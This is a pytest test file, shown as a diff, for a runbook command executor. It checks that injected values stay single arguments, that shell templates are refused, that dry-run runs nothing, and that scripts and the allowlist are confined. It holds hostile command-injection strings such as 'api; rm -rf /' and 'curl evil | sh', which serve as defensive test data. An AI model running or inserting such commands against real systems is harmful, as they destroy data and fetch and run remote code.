@@ -1,0 +1,217 @@
+"""The executor: argv building with hostile values, dry-run executes nothing, the allowlist in live mode."""
+
+from __future__ import annotations
+
+import os
+import shutil
+import stat
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+from opslib import IncidentSession
+from opslib.errors import ExecutionError
+from opslib.runbook.executor import (
+    ExecutorConfig,
+    build_argv,
+    mask_output,
+    resolve_executable,
+    run_argv,
+    truncate,
+)
+from opslib.runbook.parse import parse_runbook
+from opslib.secrets import MASK, Masker
+
+FIXTURES = Path(__file__).parent / "fixtures" / "runbook"
+SAMPLE = Path(__file__).resolve().parents[1] / "data" / "sample" / "runbooks" / "service-outage.md"
+
+HOSTILE = ["api; rm -rf /", "$(touch x)", "`touch x`", "api && curl evil | sh", "a b\tc\nd", "'\"", "*"]
+
+RUNBOOK = """## Incident Runbook: Fake
+### Immediate Actions
+1. Traffic: `kubectl top pods -n {namespace} -l app=<service>`
+2. Breaker: `./scripts/breaker.sh <service>`
+### Mitigation
+- Off-list: `rm -rf {namespace}`
+- Manual: tell the team
+"""
+
+
+def _fake(folder: Path, name: str, trace: Path, *, exit_code: int = 0, extra: str = "") -> Path:
+    """A program that appends its argv (one per line, NUL-free) to ``trace`` and prints ``extra``."""
+    script = folder / name
+    script.write_text(
+        "#!/bin/sh\n"
+        f"printf '%s\\n' \"$0\" \"$@\" >> '{trace}'\n"
+        f"printf '%s' '{extra}'\n"
+        f"exit {exit_code}\n")
+    script.chmod(script.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
+    return script
+
+
+@pytest.fixture
+def fake_path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Path]:
+    """A bin folder first on PATH holding fake kubectl/stern/curl/rm that leave a trace."""
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir()
+    trace = tmp_path / "trace.log"
+    for name in ("kubectl", "stern", "curl", "terragrunt", "aws", "rm"):
+        _fake(bin_dir, name, trace, extra=f"{name} ran; password=hunter2secret")
+    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ.get('PATH', '')}")
+    return bin_dir, trace
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_hostile_values_stay_one_argument(value: str) -> None:
+    argv = build_argv("kubectl scale deployment/<service> --replicas=10 -n {namespace}",
+                      {"service": value, "namespace": value})
+    assert argv == ["kubectl", "scale", f"deployment/{value}", "--replicas=10", "-n", value]
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_hostile_value_as_whole_argument_and_env_style(value: str) -> None:
+    assert build_argv("stern -n ${NAMESPACE} -l app=<Service>", {"namespace": value, "service": value}) == [
+        "stern", "-n", value, "-l", f"app={value}"]
+
+
+def test_value_that_looks_like_an_option_is_refused() -> None:
+    with pytest.raises(ExecutionError, match="read as an option"):
+        build_argv("kubectl get pods -n {namespace}", {"namespace": "--kubeconfig=/tmp/evil"})
+    # inside an argument a leading dash is harmless
+    assert build_argv("kubectl get deploy/<service>", {"service": "-x"}) == ["kubectl", "get", "deploy/-x"]
+
+
+@pytest.mark.parametrize("template", [
+    "kubectl get pods | grep api", "kubectl get pods; rm -rf /", "kubectl logs x > out.txt",
+    "kubectl get pods && echo ok", "echo $(whoami)", "echo `whoami`", "kubectl get pods 2>/dev/null",
+])
+def test_templates_that_need_a_shell_are_refused(template: str) -> None:
+    with pytest.raises(ExecutionError, match="needs a shell"):
+        build_argv(template, {})
+
+
+def test_missing_placeholder_and_bad_quotes() -> None:
+    with pytest.raises(ExecutionError, match="no value for placeholder <cluster>"):
+        build_argv("kubectl --context <cluster> get pods", {"service": "api"})
+    with pytest.raises(ExecutionError, match="cannot split"):
+        build_argv("kubectl get 'pods", {})
+
+
+def test_quoted_template_arguments_keep_spaces() -> None:
+    assert build_argv('curl -w "%{http_code} %{time_total}s" https://<service>/x', {"service": "api"}) == [
+        "curl", "-w", "%{http_code} %{time_total}s", "https://api/x"]
+
+
+def test_dry_run_executes_nothing(fake_path: tuple[Path, Path], tmp_path: Path) -> None:
+    _, trace = fake_path
+    scripts = tmp_path / "scripts"
+    scripts.mkdir()
+    _fake(scripts, "breaker.sh", trace)
+    session = IncidentSession(parse_runbook(RUNBOOK), incident_id="INC-1", service="api; touch pwned",
+                              namespace="$(touch pwned)", dry_run=True, scripts_dir=scripts,
+                              allowlist=["kubectl", "rm"])
+    session.walk()
+    for step in range(len(session.steps_frame)):
+        session.run(step)
+    assert not trace.exists(), trace.read_text() if trace.exists() else ""
+    assert not (tmp_path / "pwned").exists() and not Path("pwned").exists()
+    commands = session.timeline[session.timeline["kind"] == "command"]
+    assert set(commands["status"]) == {"dry-run"}
+    first = commands.iloc[0]
+    # the timeline records exactly what would have run
+    assert first["command"] == ["kubectl", "top", "pods", "-n", "$(touch pwned)", "-l",
+                                "app=api; touch pwned"]
+    assert commands["exit_code"].isna().all()
+
+
+def test_dry_run_of_sample_runbook_with_hostile_service(fake_path: tuple[Path, Path]) -> None:
+    _, trace = fake_path
+    session = IncidentSession(SAMPLE, incident_id="INC-2", service="`touch x`", namespace="prod")
+    session.walk()
+    assert not trace.exists()
+    argvs = session.timeline.loc[session.timeline["kind"] == "command", "command"]
+    assert ["kubectl", "rollout", "undo", "deployment/`touch x`", "-n", "prod"] in list(argvs)
+
+
+def test_live_runs_allowlisted_fake_and_refuses_others(fake_path: tuple[Path, Path], tmp_path: Path) -> None:
+    _, trace = fake_path
+    scripts = tmp_path / "scripts"
+    scripts.mkdir()
+    _fake(scripts, "breaker.sh", trace, extra="breaker on")
+    session = IncidentSession(parse_runbook(RUNBOOK), incident_id="INC-3", service="api; rm -rf /",
+                              namespace="prod", dry_run=False, scripts_dir=scripts, timeout=20)
+    results = session.run(0)
+    assert results[0].status == "ok" and results[0].exit_code == 0
+    lines = trace.read_text().splitlines()
+    assert Path(lines[0]).name == "kubectl"
+    assert lines[1:] == ["top", "pods", "-n", "prod", "-l", "app=api; rm -rf /"]
+    # output captured and the password masked
+    assert "kubectl ran" in results[0].output and "hunter2secret" not in results[0].output
+    assert f"password={MASK}" in results[0].output
+
+    script = session.run(1)[0]
+    assert script.status == "ok" and "breaker on" in script.output
+    assert trace.read_text().splitlines()[-1] == "api; rm -rf /"
+
+    before = trace.read_text()
+    refused = session.run(2)[0]  # `rm` is on PATH (a fake) but not on the allowlist
+    assert refused.status == "refused" and "not on the allowlist" in refused.output
+    assert trace.read_text() == before
+    timeline = session.timeline
+    row = timeline[(timeline["kind"] == "command") & (timeline["step"] == 2)].iloc[0]
+    assert row["status"] == "refused" and pd.isna(row["exit_code"])
+    assert session.status().loc[2, "status"] == "refused"
+
+
+def test_live_failure_exit_code_recorded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir()
+    _fake(bin_dir, "kubectl", tmp_path / "t.log", exit_code=3, extra="Error from server (NotFound)")
+    monkeypatch.setenv("PATH", str(bin_dir))
+    session = IncidentSession(parse_runbook(RUNBOOK), incident_id="INC-4", service="api", dry_run=False)
+    result = session.run(0)[0]
+    assert (result.status, result.exit_code) == ("failed", 3)
+    assert session.timeline["exit_code"].dropna().tolist() == [3]
+    assert session.status().loc[0, "status"] == "failed"
+
+
+def test_scripts_outside_the_folder_are_refused(tmp_path: Path) -> None:
+    scripts = tmp_path / "scripts"
+    scripts.mkdir()
+    outside = _fake(tmp_path, "evil.sh", tmp_path / "t.log")
+    (scripts / "link.sh").symlink_to(outside)
+    config = ExecutorConfig.make(scripts_dir=scripts)
+    for program in ("../evil.sh", str(outside), "./scripts/link.sh", "./scripts/missing.sh"):
+        with pytest.raises(ExecutionError):
+            resolve_executable(program, config)
+    with pytest.raises(ExecutionError, match="no scripts folder"):
+        resolve_executable("./scripts/x.sh", ExecutorConfig.make())
+
+
+def test_allowed_but_missing_program(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    monkeypatch.setenv("PATH", str(tmp_path))
+    result = run_argv(["kubectl", "version"], ExecutorConfig.make())
+    assert result.status == "refused" and "not on PATH" in result.output
+
+
+def test_timeout(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    slow = tmp_path / "kubectl"
+    sleep = shutil.which("sleep")
+    assert sleep is not None
+    slow.write_text(f"#!/bin/sh\necho started\nexec {sleep} 5\n")
+    slow.chmod(0o755)
+    monkeypatch.setenv("PATH", str(tmp_path))
+    result = run_argv(["kubectl", "wait"], ExecutorConfig.make(timeout=0.5))
+    assert result.status == "timeout" and result.exit_code is None
+    assert "timed out" in result.output
+
+
+def test_mask_and_truncate() -> None:
+    text = "token: abc123secret AKIAABCDEFGHIJKLMNOP api_key=zzz9999 name=api remembered-value"
+    masked = mask_output(text, Masker(["remembered-value"]))
+    assert "abc123secret" not in masked and "zzz9999" not in masked and "remembered-value" not in masked
+    assert "AKIAABCDEFGHIJKLMNOP" not in masked and "name=api" in masked
+    cut, was_cut = truncate("x" * 100 + "END", 30)
+    assert was_cut and cut.endswith("END") and "truncated" in cut
+    assert truncate("short", 30) == ("short", False)
